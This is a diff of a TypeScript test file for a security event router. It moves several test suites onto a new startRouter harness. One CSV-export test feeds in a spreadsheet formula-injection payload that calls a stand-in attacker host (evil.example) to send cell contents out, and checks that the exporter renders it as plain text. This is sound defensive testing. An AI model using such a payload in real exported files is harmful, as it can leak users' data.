@@ -4,7 +4,8 @@ import { Receiver } from '@falconer/testing';
 import type { RouterApp } from '../app';
 import { LiveHub } from '../live/live.hub';
 import { signBody } from './remediation-signature';
-import { ago, boot, falcoJson, ingest } from './query.testing';
+import { ago, falcoJson, ingest } from './query.testing';
+import { NO_UI, startRouter } from '../testing/router-harness';
 
 const uuidOf = (i: number): string => `10000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
 
@@ -33,7 +34,7 @@ describe('query API (memory store)', () => {
   };
 
   beforeAll(async () => {
-    ({ router, base } = await boot());
+    ({ router, url: base } = await startRouter(NO_UI));
     await ingest(base, events);
   });
   afterAll(async () => {
@@ -263,7 +264,7 @@ describe('query API (memory store)', () => {
 
 describe('CSV export of attacker-controlled text', () => {
   it('makes a cell that starts like a spreadsheet formula plain text', async () => {
-    const { router, base } = await boot({ STORE_TTL: '0' });
+    const { router, url: base } = await startRouter({ ...NO_UI, STORE_TTL: '0' });
     try {
       await ingest(base, [
         falcoJson(1, { output: '=HYPERLINK("http://evil.example/?"&A1,"open")' }),
@@ -286,7 +287,7 @@ describe('remediation reports with a shared secret', () => {
   const secret = 'remediation-test-secret';
 
   beforeAll(async () => {
-    ({ router, base } = await boot({ REMEDIATION_SECRET: secret }));
+    ({ router, url: base } = await startRouter({ ...NO_UI, REMEDIATION_SECRET: secret }));
     await ingest(base, [falcoJson(7, { priority: 'Critical' })]);
   });
   afterAll(async () => {
@@ -335,7 +336,8 @@ describe('outputs with the delivery layer', () => {
 
   beforeAll(async () => {
     rx = await Receiver.start(() => ({ status: 200 }));
-    ({ router, base } = await boot({
+    ({ router, url: base } = await startRouter({
+      ...NO_UI,
       WEBHOOK_ADDRESS: `${rx.url}/hook`,
       WEBHOOK_MINIMUMPRIORITY: 'error',
       // issue 20 finding 9: every header value and every declared secret is hidden from the API
